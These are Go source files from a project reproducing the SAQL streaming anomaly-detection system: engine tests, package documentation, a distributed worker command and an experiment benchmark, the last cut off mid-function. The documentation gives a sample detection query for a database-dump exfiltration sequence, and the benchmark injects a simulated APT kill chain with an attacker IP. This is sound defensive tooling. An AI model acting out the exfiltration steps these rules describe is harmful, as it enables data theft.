// TestQueryStateReencodeIdempotent drives every conformance-corpus query
// over the demo stream, snapshots its state, restores it into a freshly
// compiled copy, and re-encodes: the blobs must be byte-identical. This is
// the strongest cheap property the state codec has — encode∘restore is the
// identity on every stateful layer (aggregators, windows, histories,
// invariants, partial matches, distinct tables) — and it runs over real
// rule/stateful/time-series/invariant/outlier state, not synthetic structs.
func TestQueryStateReencodeIdempotent(t *testing.T) {
	events, _ := buildDemoStream(t, 3*time.Minute, time.Minute)
	for _, c := range conformanceCorpus {
		c := c
		t.Run(c.name, func(t *testing.T) {
			q, err := CompileQuery(c.name, c.src)
			if err != nil {
				t.Fatal(err)
			}
			for _, ev := range events {
				q.Process(ev, nil)
			}
			blob, err := q.EncodeState()
			if err != nil {
				t.Fatal(err)
			}
			fresh, err := CompileQuery(c.name, c.src)
			if err != nil {
				t.Fatal(err)
			}
			if err := fresh.RestoreState(blob, true); err != nil {
				t.Fatal(err)
			}
			again, err := fresh.EncodeState()
			if err != nil {
				t.Fatal(err)
			}
			if string(blob) != string(again) {
				t.Fatalf("re-encoded state differs: %d vs %d bytes", len(blob), len(again))
			}
			// And the restored query must keep processing: feed the stream
			// once more and require no panics and no decode-induced errors.
			var evalErrs int
			for _, ev := range events {
				fresh.Process(ev, func(error) { evalErrs++ })
			}
			fresh.Flush(func(error) { evalErrs++ })
			if evalErrs > 0 {
				t.Errorf("%d runtime errors on the restored query", evalErrs)
			}
		})
	}
}

// TestCheckpointWhileStreaming checkpoints concurrently with live submits:
// the barrier must be race-clean and the engine must keep running.
func TestCheckpointWhileStreaming(t *testing.T) {
	dir := t.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	eng := New(WithShards(4), WithJournal(store))
	for _, q := range concurrencyQueries {
		if err := eng.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	events := concurrencyWorkload(30, 10)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < len(events); i += 10 {
			end := i + 10
			if end > len(events) {
				end = len(events)
			}
			if err := eng.SubmitBatch(events[i:end]); err != nil {
				return
			}
		}
	}()
	var lastOffset int64 = -1
	for i := 0; i < 5; i++ {
		info, err := eng.Checkpoint(dir)
		if err != nil {
			t.Fatal(err)
		}
		if info.Offset < lastOffset {
			t.Errorf("checkpoint offsets went backwards: %d after %d", info.Offset, lastOffset)
		}
		lastOffset = info.Offset
	}
	wg.Wait()
	if _, err := eng.Checkpoint(dir); err != nil {
		t.Fatal(err)
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Checkpoint(dir); !errors.Is(err, ErrClosed) {
		t.Errorf("checkpoint after close = %v, want ErrClosed", err)
	}
	// The final pre-close checkpoint is restorable.
	if _, _, err := Restore(dir, WithoutStart(), WithoutReplay()); err != nil {
		t.Fatal(err)
	}
}
