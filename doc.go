// Package saql is a stream-based query system for real-time abnormal system
// behavior detection over enterprise system monitoring data, reproducing the
// SAQL system of Gao et al. ("Querying Streaming System Monitoring Data for
// Enterprise System Anomaly Detection", ICDE 2020; USENIX Security 2018).
//
// SAQL ingests a real-time feed of system events — ⟨subject, operation,
// object⟩ interactions between processes, files, and network connections
// collected from enterprise hosts — and evaluates anomaly queries written in
// the Stream-based Anomaly Query Language against it. The language expresses
// four families of anomaly models:
//
//   - rule-based: multievent patterns with attribute constraints, entity
//     joins, and temporal ordering (`with evt1 -> evt2`);
//   - time-series: sliding-window states with history access (ss[0], ss[1])
//     for moving-average style detectors;
//   - invariant-based: invariants learned over training windows and
//     violated by unseen behaviour;
//   - outlier-based: peer comparison via clustering (DBSCAN) of per-group
//     window aggregates.
//
// # Quick start
//
// The engine is driven through the concurrent ingestion API: Start spins up
// the sharded runtime, Submit/SubmitBatch feed events through a bounded
// ingest queue, and Subscribe delivers the merged alert stream. Register
// returns the query's handle:
//
//	eng := saql.New(saql.WithShards(8))
//	h, err := eng.Register("exfil", `
//	    proc p1["%cmd.exe"] start proc p2["%osql.exe"] as evt1
//	    proc p3["%sqlservr.exe"] write file f1["%backup1.dmp"] as evt2
//	    proc p4 read file f1 as evt3
//	    with evt1 -> evt2 -> evt3
//	    return distinct p1, p2, p3, f1, p4`)
//	if err := eng.Start(ctx); err != nil { ... }
//	sub := eng.Subscribe(256, saql.Block)
//	go func() {
//	    for alert := range sub.C {
//	        fmt.Println(alert)
//	    }
//	}()
//	eng.SubmitBatch(events) // from any number of goroutines
//	eng.Close()             // drain, flush, end subscriptions
//
// # Query lifecycle
//
// The *QueryHandle returned by Register owns one query's lifecycle while
// the engine keeps ingesting. Pause/Resume gate its event flow with all
// state retained; Update hot-swaps its source atomically at a consistent
// point of the event stream (with CarryWindowState preserving open windows,
// history rings, and invariant training when only thresholds or patterns
// changed); Subscribe opens a per-query alert stream; Close retires it.
// Every control operation is applied in the same total order as events on
// every shard, so a sharded engine under live reconfiguration remains
// alert-for-alert identical to a serial engine reconfigured between the
// same two events.
//
// On top of handles sits the declarative layer: ParseQuerySet parses a
// multi-query document (named `query` blocks plus shared `param`
// definitions substituted at compile time) and Engine.Apply reconciles it
// against the running registry — unchanged queries untouched, changed ones
// hot-swapped, absent managed ones retired — returning a ChangeReport.
// See docs/queries.md for the grammar and reconciliation rules.
//
// # Ingesting real logs
//
// Raw monitoring logs stream into a running engine through sources: a log
// file (optionally followed like tail -f), standard input, an arbitrary
// io.Reader, or a TCP listener. Each source decodes its input with a codec
// — "auditd" (Linux kernel audit records, with multi-record event
// reassembly), "sysmon" (Sysmon/ECS JSON lines), or "ndjson" (the native
// event schema) — and submits the events in time-ordered batches:
//
//	src, err := saql.OpenLogFile("audit.log",
//	    saql.WithFormat("auditd"), saql.WithSourceAgent("db-1"), saql.WithFollow())
//	if err != nil { ... }
//	err = src.Run(ctx, eng) // decode → batch → SubmitBatch, until ctx ends
//
// Per-source counters (lines, events, decode errors, out-of-order
// accounting) are available from Source.Stats and aggregated into
// Engine.Stats. See docs/architecture.md for the pipeline design and
// docs/language.md for the query-language reference.
//
// # Engine lifecycle
//
// An Engine moves through three states. It is created in the serial state,
// where the synchronous Process/Flush/Run methods evaluate queries on the
// caller's goroutine and return alerts directly (the original blocking API;
// Process, Run, Flush, AddQuery, and RemoveQuery are all deprecated in
// favour of Start/Submit/Subscribe and the Register handle API, but remain
// fully supported). Start moves it to the running state: ingestion happens
// through the non-blocking Submit/SubmitBatch, whose backpressure on a full
// queue is configurable with WithBackpressure (Block, or DropNewest counted
// in Stats.Dropped). Close drains the queue, closes all windows, delivers
// the final alerts, and ends every subscription (each subscription's Err
// then reports ErrClosed). Misuse yields typed errors: ErrNotRunning,
// ErrAlreadyRunning, ErrClosed, and — for operations on a retired query
// handle — ErrQueryClosed.
//
// # Shard placement
//
// The running engine partitions query state across WithShards(n) workers
// (default GOMAXPROCS). Every shard observes the whole event stream in one
// total order — so watermarks and window boundaries agree everywhere and
// sharded execution stays alert-for-alert equivalent to serial — while the
// expensive state folding is owned by exactly one shard:
//
//   - stateful queries with a group-by clause (time-series, invariant, and
//     plain aggregations) partition by group-by key: each key's windows,
//     history, and invariants live on the shard that hashes to it
//     (PlaceByGroup);
//   - stateless single-pattern rule queries partition by subject entity:
//     each event is evaluated on one shard (PlaceByEvent);
//   - queries whose semantics require the total event order in one place —
//     multievent rule queries (matches join events across entities),
//     outlier queries (clustering compares all groups of a window),
//     stateful queries without a group-by, and any `return distinct` query
//     (one global suppression table) — are pinned to a single home shard,
//     assigned round-robin (PlacePinned).
//
// QueryPlacement reports the decision per query.
//
// Concurrent queries are scheduled with the master–dependent-query scheme:
// semantically compatible queries share one copy of the stream, with the
// weakest query (the master) performing pattern matching and dependents
// refining its intermediate results. On a multi-shard engine the scheme
// runs once, in the router, before fan-out: each event's pattern hits are
// pre-evaluated into a hit set shipped alongside the event, so shards skip
// pattern matching entirely and per-event matching work stays O(patterns)
// rather than O(shards × patterns).
//
// # Durable state
//
// The engine survives crashes and restarts without losing state or alerts.
// WithJournal(store) write-ahead-logs every ingested event into an embedded
// event store, in exactly the processing order; Engine.Checkpoint(dir)
// captures a consistent snapshot — registry, pause flags, labels, and every
// query's runtime state (open windows, aggregators, history rings,
// invariant training, partial multievent matches, distinct-suppression
// tables) — at a runtime control-queue barrier, riding the same total order
// as events and hot-swaps; and Restore(dir) rebuilds an equivalent engine
// (on any shard count) and replays the journaled tail from the snapshot's
// stream offset, so recovery is alert-for-alert identical to a run that was
// never interrupted. Unreadable snapshots fail with typed errors
// (ErrNoCheckpoint, *SnapshotVersionError, *SnapshotCorruptError), never
// with silently corrupted state. See docs/architecture.md, "Durable state".
//
// # Distributed operation
//
// The checkpoint substrate scales past one process. WithKeyRanges restricts
// an engine to contiguous ranges of the 32-bit FNV-1a ownership hash space
// (HashGroupKey, HashSubject expose the hashing; RestoreStateBlobs applies
// migrated state), and internal/dist builds the cluster on top: a
// coordinator owning the queryset and the stream, cmd/saql-worker nodes
// each running a normal engine over their own journal/checkpoint directory,
// and a framed wire protocol carrying events, control ops, alerts, and
// checkpoint barriers in one total order. Worker loss and live key-range
// rebalance both reduce to checkpoint/restore, and the cluster's merged
// alert stream stays alert-for-alert identical to one serial engine. Run a
// cluster with cmd/saql's -cluster flag; see docs/architecture.md,
// "Distributed operation".
//
// The module also ships the full demonstration substrate of the paper: a
// deterministic multi-host workload simulator (NewWorkload), the five-step
// APT kill-chain generator (AttackScenario), an embedded event store and
// stream replayer (OpenStore, NewReplayer), and a generic per-query-copy CEP
// baseline for comparison experiments.
package saql
