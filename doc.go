// Package saql is a stream-based query system for real-time abnormal system
// behavior detection over enterprise system monitoring data, reproducing the
// SAQL system of Gao et al. ("Querying Streaming System Monitoring Data for
// Enterprise System Anomaly Detection", ICDE 2020; USENIX Security 2018).
//
// SAQL ingests a real-time feed of system events — ⟨subject, operation,
// object⟩ interactions between processes, files, and network connections
// collected from enterprise hosts — and evaluates anomaly queries written in
// the Stream-based Anomaly Query Language against it. The language expresses
// four families of anomaly models:
//
//   - rule-based: multievent patterns with attribute constraints, entity
//     joins, and temporal ordering (`with evt1 -> evt2`);
//   - time-series: sliding-window states with history access (ss[0], ss[1])
//     for moving-average style detectors;
//   - invariant-based: invariants learned over training windows and
//     violated by unseen behaviour;
//   - outlier-based: peer comparison via clustering (DBSCAN) of per-group
//     window aggregates.
//
// # Quick start
//
//	eng := saql.New()
//	err := eng.AddQuery("exfil", `
//	    proc p1["%cmd.exe"] start proc p2["%osql.exe"] as evt1
//	    proc p3["%sqlservr.exe"] write file f1["%backup1.dmp"] as evt2
//	    proc p4 read file f1 as evt3
//	    with evt1 -> evt2 -> evt3
//	    return distinct p1, p2, p3, f1, p4`)
//	for _, ev := range events {
//	    for _, alert := range eng.Process(ev) {
//	        fmt.Println(alert)
//	    }
//	}
//
// Concurrent queries are scheduled with the master–dependent-query scheme:
// semantically compatible queries share one copy of the stream, with the
// weakest query (the master) performing pattern matching and dependents
// refining its intermediate results.
//
// The module also ships the full demonstration substrate of the paper: a
// deterministic multi-host workload simulator (NewWorkload), the five-step
// APT kill-chain generator (AttackScenario), an embedded event store and
// stream replayer (OpenStore, NewReplayer), and a generic per-query-copy CEP
// baseline for comparison experiments.
package saql
