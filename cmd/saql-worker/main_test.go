package main

import (
	"fmt"
	"os"
	"os/signal"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"saql"
	"saql/internal/dist"
	"saql/internal/leakcheck"
)

type syncWriter struct {
	mu sync.Mutex
	sb strings.Builder
}

func (w *syncWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.sb.Write(p)
}

func (w *syncWriter) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.sb.String()
}

var listenRE = regexp.MustCompile(`listening on (\S+),`)

// TestWorkerServeLifecycle runs the real binary loop in-process: it comes
// up on an ephemeral port, serves a coordinator session end to end (hello,
// queryset, events, alert return, clean shutdown), and exits on SIGTERM.
func TestWorkerServeLifecycle(t *testing.T) {
	// The first signal.Notify in a process starts a permanent watcher
	// goroutine; prime it before the leak baseline so it isn't counted.
	prime := make(chan os.Signal, 1)
	signal.Notify(prime, syscall.SIGHUP)
	signal.Stop(prime)
	leakcheck.Check(t)
	out := &syncWriter{}
	done := make(chan error, 1)
	go func() {
		done <- run([]string{"-listen", "127.0.0.1:0", "-dir", t.TempDir(), "-shards", "1"}, out)
	}()
	deadline := time.Now().Add(10 * time.Second)
	var addr string
	for addr == "" {
		if m := listenRE.FindStringSubmatch(out.String()); m != nil {
			addr = m[1]
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("worker never listened:\n%s", out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}

	var amu sync.Mutex
	alerts := 0
	coord := dist.NewCoordinator(dist.Config{
		OnAlert: func(*saql.Alert) { amu.Lock(); alerts++; amu.Unlock() },
	})
	conn, err := dist.TCP{Timeout: 5 * time.Second}.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	if err := coord.AddWorker("w0", conn, dist.SplitRanges(1)[0]); err != nil {
		t.Fatal(err)
	}
	if err := coord.Register("big-write", "proc p write ip i as e\nalert e.amount > 1000000\nreturn p, e.amount"); err != nil {
		t.Fatal(err)
	}
	base := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	var evs []*saql.Event
	for i := 0; i < 20; i++ {
		evs = append(evs, &saql.Event{
			Time:    base.Add(time.Duration(i) * time.Millisecond),
			AgentID: "db-1",
			Subject: saql.Process(fmt.Sprintf("w-%d.exe", i%5), int32(1000+i%5)),
			Op:      saql.OpWrite,
			Object:  saql.NetConn("10.0.0.2", 1433, "10.1.0.3", 443),
			Amount:  2000000,
		})
	}
	if err := coord.SubmitBatch(evs); err != nil {
		t.Fatal(err)
	}
	if err := coord.Close(); err != nil {
		t.Fatal(err)
	}
	amu.Lock()
	if alerts != len(evs) {
		t.Errorf("alerts = %d, want %d", alerts, len(evs))
	}
	amu.Unlock()

	// SIGTERM ends the accept loop cleanly.
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("run: %v\noutput:\n%s", err, out.String())
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("worker did not exit after SIGTERM:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "session ended cleanly") {
		t.Errorf("no clean session in output:\n%s", out.String())
	}
}

// TestWorkerRequiresDir pins the flag validation.
func TestWorkerRequiresDir(t *testing.T) {
	var out strings.Builder
	if err := run([]string{"-listen", "127.0.0.1:0"}, &out); err == nil {
		t.Error("run without -dir succeeded")
	}
}
