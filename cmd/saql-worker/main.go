// Command saql-worker is one node of a distributed SAQL cluster: a thin
// process around a normal saql.Engine that owns a slice of the group-key
// hash space. It listens for the coordinator (cmd/saql -cluster), receives
// the broadcast event stream and queryset control operations over the
// internal/dist frame protocol, journals and checkpoints its state into
// -dir independently, and streams the alerts its key ranges own back to
// the coordinator.
//
// The worker is stateless above its directory: killing the process and
// starting a new one with the same -dir resumes from the last checkpoint
// plus the journaled tail, and the coordinator replays whatever the journal
// misses from its retained epoch. One coordinator connection is served at a
// time — a second connection while one is active would race two engines on
// the same journal, so connections are served strictly sequentially.
//
// Usage:
//
//	saql-worker -listen :7443 -dir ./worker-state -shards 4
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"sync"
	"syscall"

	"saql/internal/dist"
)

func main() {
	err := run(os.Args[1:], os.Stdout)
	if errors.Is(err, flag.ErrHelp) {
		return
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "saql-worker:", err)
		os.Exit(1)
	}
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("saql-worker", flag.ContinueOnError)
	var (
		listen = fs.String("listen", ":7443", "address to accept the coordinator connection on")
		dir    = fs.String("dir", "", "journal/checkpoint directory for this worker's state (required)")
		shards = fs.Int("shards", 0, "shard workers for this node's engine (0 = GOMAXPROCS)")
		queue  = fs.Int("queue", 0, "ingest queue size (0 = engine default)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *dir == "" {
		return fmt.Errorf("-dir is required: a worker's identity is its state directory")
	}

	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return err
	}
	var outMu sync.Mutex
	logf := func(format string, a ...any) {
		outMu.Lock()
		fmt.Fprintf(out, format+"\n", a...)
		outMu.Unlock()
	}
	logf("saql-worker: listening on %s, state in %s", ln.Addr(), *dir)

	// SIGTERM/SIGINT closes the listener; an in-flight Serve finishes its
	// current session (the coordinator's shutdown frame checkpoints and
	// seals the journal) before the accept loop observes the closure.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sig)
	go func() {
		<-sig
		ln.Close()
	}()

	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				logf("saql-worker: listener closed, exiting")
				return nil
			}
			return err
		}
		logf("saql-worker: coordinator connected from %s", conn.RemoteAddr())
		w := dist.NewWorker(dist.WorkerConfig{
			Dir:       *dir,
			Shards:    *shards,
			QueueSize: *queue,
			Logf:      logf,
		})
		if err := w.Serve(conn); err != nil {
			logf("saql-worker: session ended: %v", err)
		} else {
			logf("saql-worker: session ended cleanly")
		}
	}
}
