// Command saql-bench regenerates the paper's experiments E1–E8 (see
// DESIGN.md §4) and prints paper-style tables. The absolute numbers depend
// on the machine; the shapes — every attack step detected, advanced models
// detected without attack knowledge, sharing flattening the per-query cost
// curve — are the reproduction targets recorded in EXPERIMENTS.md.
//
// Usage:
//
//	saql-bench            # run all experiments
//	saql-bench -exp e3    # run one experiment
//	saql-bench -exp e2 -duration 30m -seed 7
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"runtime"
	"sort"
	"strings"
	"time"

	"saql"
)

var (
	expFlag  = flag.String("exp", "all", "experiment to run: e1..e9 or all")
	duration = flag.Duration("duration", 30*time.Minute, "background stream duration")
	seed     = flag.Int64("seed", 42, "workload seed")
	window   = flag.Duration("window", 30*time.Second, "window length for demo queries")
	train    = flag.Int("train", 5, "invariant training windows")

	// E9 machine-readable output and CI regression gate.
	jsonOut    = flag.String("json", "", "e9: write the measurements as JSON to this path")
	baseline   = flag.String("baseline", "", "e9: compare events/s against this checked-in baseline JSON")
	mcBaseline = flag.String("mc-baseline", "", "e9: compare the multi-core (mc-) configs against this baseline JSON")
	maxRegress = flag.Float64("max-regress", 0.20, "e9: tolerated events/s regression vs the baseline (0.20 = 20%)")
)

var streamStart = time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)

func main() {
	flag.Parse()
	exps := map[string]func(){
		"e1": e1, "e2": e2, "e3": e3, "e4": e4,
		"e5": e5, "e6": e6, "e7": e7, "e8": e8, "e9": e9,
	}
	if *expFlag == "all" {
		for _, name := range []string{"e1", "e2", "e3", "e4", "e5", "e6", "e7", "e8", "e9"} {
			exps[name]()
		}
		return
	}
	fn, ok := exps[strings.ToLower(*expFlag)]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown experiment %q (e1..e8 or all)\n", *expFlag)
		os.Exit(2)
	}
	fn()
}

// buildStream mixes background and the kill chain, returning the sorted
// stream, the scenario, and the attack step start times.
func buildStream() ([]*saql.Event, *saql.AttackScenario, map[saql.AttackStep]time.Time) {
	wl, err := saql.NewWorkload(saql.WorkloadConfig{
		Hosts: []saql.Host{
			{AgentID: "ws-victim", Kind: saql.Workstation},
			{AgentID: "ws-2", Kind: saql.Workstation},
			{AgentID: "mail-1", Kind: saql.MailServer},
			{AgentID: "web-1", Kind: saql.WebServer},
			{AgentID: "db-1", Kind: saql.DBServer},
		},
		Start: streamStart, Duration: *duration, Seed: *seed,
	})
	if err != nil {
		panic(err)
	}
	events := wl.Drain()
	scenario := &saql.AttackScenario{
		Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
		AttackerIP: "172.16.0.129",
		Start:      streamStart.Add(*duration * 2 / 5),
	}
	stepStart := map[saql.AttackStep]time.Time{}
	labeled := scenario.Events()
	for _, l := range labeled {
		if _, ok := stepStart[l.Step]; !ok {
			stepStart[l.Step] = l.Event.Time
		}
	}
	events = append(events, saql.AttackEventsOnly(labeled)...)
	sort.SliceStable(events, func(i, j int) bool { return events[i].Time.Before(events[j].Time) })
	return events, scenario, stepStart
}

func header(title string) {
	fmt.Printf("\n==============================================================\n")
	fmt.Printf("%s\n", title)
	fmt.Printf("==============================================================\n")
}

// --- E1 ---------------------------------------------------------------------

func e1() {
	header("E1  Paper Queries 1-4: detection + per-query engine throughput")
	events, scenario, _ := buildStream()
	all := scenario.DemoQueries(*window, *train)
	cases := []struct {
		label string
		nq    saql.NamedQuery
	}{
		{"Query 1 (rule: exfiltration)", all[4]},
		{"Query 2 (time-series: SMA)", all[6]},
		{"Query 3 (invariant: children)", all[5]},
		{"Query 4 (outlier: DBSCAN)", all[7]},
	}
	fmt.Printf("%-34s %10s %10s %14s %12s\n", "query", "alerts", "events", "events/s", "1st latency")
	for _, c := range cases {
		q, err := saql.CompileQuery(c.nq.Name, c.nq.SAQL)
		if err != nil {
			panic(err)
		}
		var alerts int
		var firstLatency time.Duration
		started := time.Now()
		for _, ev := range events {
			for _, a := range q.Process(ev, nil) {
				if alerts == 0 {
					// Detection latency relative to the triggering
					// activity's event time (window end for stateful).
					firstLatency = a.EventTime.Sub(scenario.Start)
				}
				alerts++
			}
		}
		for _, a := range q.Flush(nil) {
			_ = a
			alerts++
		}
		wall := time.Since(started)
		lat := "-"
		if alerts > 0 {
			lat = firstLatency.Round(time.Second).String()
		}
		fmt.Printf("%-34s %10d %10d %14.0f %12s\n",
			c.label, alerts, len(events), float64(len(events))/wall.Seconds(), lat)
	}
	fmt.Println("shape check: every query type raises alerts on the attack stream;")
	fmt.Println("latencies are bounded by the window length for stateful models.")
}

// --- E2 ---------------------------------------------------------------------

func e2() {
	header("E2  Kill-chain demo: 8 queries vs 5 attack steps (Fig 2/3)")
	events, scenario, stepStart := buildStream()
	queries := scenario.DemoQueries(*window, *train)

	eng := saql.New()
	for _, nq := range queries {
		if _, err := eng.Register(nq.Name, nq.SAQL); err != nil {
			panic(err)
		}
	}
	firstAlert := map[string]time.Time{}
	counts := map[string]int{}
	started := time.Now()
	for _, ev := range events {
		for _, a := range eng.Process(ev) {
			if _, ok := firstAlert[a.Query]; !ok {
				firstAlert[a.Query] = a.EventTime
			}
			counts[a.Query]++
		}
	}
	for _, a := range eng.Flush() {
		if _, ok := firstAlert[a.Query]; !ok {
			firstAlert[a.Query] = a.EventTime
		}
		counts[a.Query]++
	}
	wall := time.Since(started)

	fmt.Printf("%-38s %-6s %-12s %8s %16s\n", "query", "step", "model", "alerts", "detect delay")
	for _, nq := range queries {
		delay := "-"
		if ft, ok := firstAlert[nq.Name]; ok {
			ref := scenario.Start
			if nq.Step != "" {
				ref = stepStart[nq.Step]
			}
			delay = ft.Sub(ref).Round(time.Second).String()
		}
		step := string(nq.Step)
		if step == "" {
			step = "-"
		}
		fmt.Printf("%-38s %-6s %-12s %8d %16s\n", nq.Name, step, nq.Model, counts[nq.Name], delay)
	}
	st := eng.Stats()
	fmt.Printf("\nstream: %d events in %s (%.0f events/s, %d queries, %d groups)\n",
		len(events), wall.Round(time.Millisecond), float64(len(events))/wall.Seconds(), st.Queries, st.QueryGroups)
	fmt.Println("shape check: all 5 rule queries detect their steps; the 3 advanced")
	fmt.Println("anomaly queries detect c2/c5 with no knowledge of the attack.")
}

// --- E3 ---------------------------------------------------------------------

func e3() {
	header("E3  Concurrent queries: master-dependent sharing vs per-query copies")
	events, scenario, _ := buildStream()
	base := scenario.DemoQueries(*window, *train)[6] // time-series family

	variants := func(n int) []saql.NamedQuery {
		out := make([]saql.NamedQuery, n)
		for i := range out {
			out[i] = base
			out[i].Name = fmt.Sprintf("v%d", i)
			out[i].SAQL = base.SAQL + fmt.Sprintf("\nalert ss[0].avg_amount > %d", 1000000+i*1000)
		}
		return out
	}

	fmt.Printf("%8s | %14s %12s | %14s | %14s | %10s\n",
		"queries", "shared ev/s", "copies/ev", "noshare ev/s", "baseline ev/s", "ratio")
	for _, n := range []int{1, 2, 4, 8, 16, 32, 64} {
		qs := variants(n)

		shared := saql.New(saql.WithSharing(true))
		for _, nq := range qs {
			if _, err := shared.Register(nq.Name, nq.SAQL); err != nil {
				panic(err)
			}
		}
		t0 := time.Now()
		for _, ev := range events {
			shared.Process(ev)
		}
		shared.Flush()
		sharedRate := float64(len(events)) / time.Since(t0).Seconds()
		st := shared.Stats()
		copies := float64(st.StreamCopies) / float64(st.Events)

		noshare := saql.New(saql.WithSharing(false))
		for _, nq := range qs {
			if _, err := noshare.Register(nq.Name, nq.SAQL); err != nil {
				panic(err)
			}
		}
		t0 = time.Now()
		for _, ev := range events {
			noshare.Process(ev)
		}
		noshare.Flush()
		noshareRate := float64(len(events)) / time.Since(t0).Seconds()

		baseEng := saql.NewBaselineEngine()
		for _, nq := range qs {
			q, err := saql.CompileQuery(nq.Name, nq.SAQL)
			if err != nil {
				panic(err)
			}
			baseEng.Add(q)
		}
		t0 = time.Now()
		for _, ev := range events {
			baseEng.Process(ev)
		}
		baseEng.Flush()
		baseRate := float64(len(events)) / time.Since(t0).Seconds()

		fmt.Printf("%8d | %14.0f %12.2f | %14.0f | %14.0f | %9.1fx\n",
			n, sharedRate, copies, noshareRate, baseRate, st.SharingRatio)
	}
	fmt.Println("shape check: shared copies/event stay at 1 as queries grow (the")
	fmt.Println("baseline pays n copies); shared throughput degrades far slower.")
}

// --- E4 ---------------------------------------------------------------------

func e4() {
	header("E4  Per-model engine overhead (ns/event)")
	events, scenario, _ := buildStream()
	all := scenario.DemoQueries(*window, *train)
	models := []struct {
		label string
		nq    saql.NamedQuery
	}{
		{"rule (4-pattern sequence)", all[4]},
		{"time-series (SMA, state[3])", all[6]},
		{"invariant (set learning)", all[5]},
		{"outlier (DBSCAN per window)", all[7]},
	}
	fmt.Printf("%-32s %12s %14s %10s\n", "model", "ns/event", "events/s", "alerts")
	for _, m := range models {
		q, err := saql.CompileQuery(m.nq.Name, m.nq.SAQL)
		if err != nil {
			panic(err)
		}
		var alerts int
		t0 := time.Now()
		for _, ev := range events {
			alerts += len(q.Process(ev, nil))
		}
		alerts += len(q.Flush(nil))
		wall := time.Since(t0)
		fmt.Printf("%-32s %12.0f %14.0f %10d\n",
			m.label, float64(wall.Nanoseconds())/float64(len(events)),
			float64(len(events))/wall.Seconds(), alerts)
	}
	fmt.Println("shape check: all models sustain enterprise event rates (the paper")
	fmt.Println("cites ~50GB/day for 100 hosts, i.e. thousands of events/s).")
}

// --- E5 ---------------------------------------------------------------------

func e5() {
	header("E5  Stream replayer: selection fidelity and speedup (Fig 4)")
	events, _, _ := buildStream()
	dir, err := os.MkdirTemp("", "saql-bench-store")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(dir)
	store, err := saql.OpenStore(dir, saql.StoreOptions{})
	if err != nil {
		panic(err)
	}
	if err := store.AppendAll(events); err != nil {
		panic(err)
	}
	rep := saql.NewReplayer(store)

	// Replay a 2-minute, single-host slice at increasing speeds.
	sel := saql.ReplayOptions{
		Hosts: []string{"db-1"},
		From:  streamStart.Add(2 * time.Minute),
		To:    streamStart.Add(4 * time.Minute),
	}
	fmt.Printf("%10s %10s %12s %12s %12s\n", "speed", "events", "span", "wall", "achieved")
	for _, speed := range []float64{10, 100, 1000, 0} {
		opts := sel
		opts.Speed = speed
		stats, err := rep.Replay(benchContext(), opts, func(*saql.Event) error { return nil })
		if err != nil {
			panic(err)
		}
		label := fmt.Sprintf("%.0fx", speed)
		if speed == 0 {
			label = "max"
		}
		fmt.Printf("%10s %10d %12s %12s %11.0fx\n",
			label, stats.Events, stats.EventSpan().Round(time.Millisecond),
			stats.Wall.Round(time.Millisecond), stats.Speedup())
	}
	fmt.Println("shape check: achieved speedup tracks the requested multiplier and")
	fmt.Println("is orders of magnitude above real time at max speed.")
}

// --- E6 ---------------------------------------------------------------------

func e6() {
	header("E6  State maintenance: window length and group cardinality")
	events, _, _ := buildStream()
	fmt.Printf("%-28s %12s %14s %10s\n", "configuration", "ns/event", "events/s", "windows")
	for _, win := range []string{"10 s", "1 min", "10 min"} {
		src := fmt.Sprintf(`proc p write ip i as evt #time(%s)
state[3] ss { avg_amount := avg(evt.amount) } group by p
alert ss[0].avg_amount > 1000000000
return p`, win)
		runStateful("tumbling "+win, src, events)
	}
	for _, hop := range []string{"#time(1 min)", "#time(1 min, 30 s)", "#time(1 min, 10 s)"} {
		src := fmt.Sprintf(`proc p write ip i as evt %s
state ss { amt := sum(evt.amount) } group by p
alert ss.amt > 1000000000
return p`, hop)
		runStateful(hop, src, events)
	}
	for _, g := range []struct{ label, expr string }{
		{"group by proc", "p"},
		{"group by dstip", "i.dstip"},
		{"group by proc+dstip", "p, i.dstip"},
	} {
		src := fmt.Sprintf(`proc p write ip i as evt #time(1 min)
state ss { amt := sum(evt.amount) } group by %s
alert ss.amt > 1000000000
return ss.amt`, g.expr)
		runStateful(g.label, src, events)
	}
	fmt.Println("shape check: shorter windows and hops cost more closures; group")
	fmt.Println("cardinality dominates state cost, as the paper's design expects.")
}

func runStateful(label, src string, events []*saql.Event) {
	q, err := saql.CompileQuery(label, src)
	if err != nil {
		panic(err)
	}
	t0 := time.Now()
	for _, ev := range events {
		q.Process(ev, nil)
	}
	q.Flush(nil)
	wall := time.Since(t0)
	st := q.Stats()
	fmt.Printf("%-28s %12.0f %14.0f %10d\n",
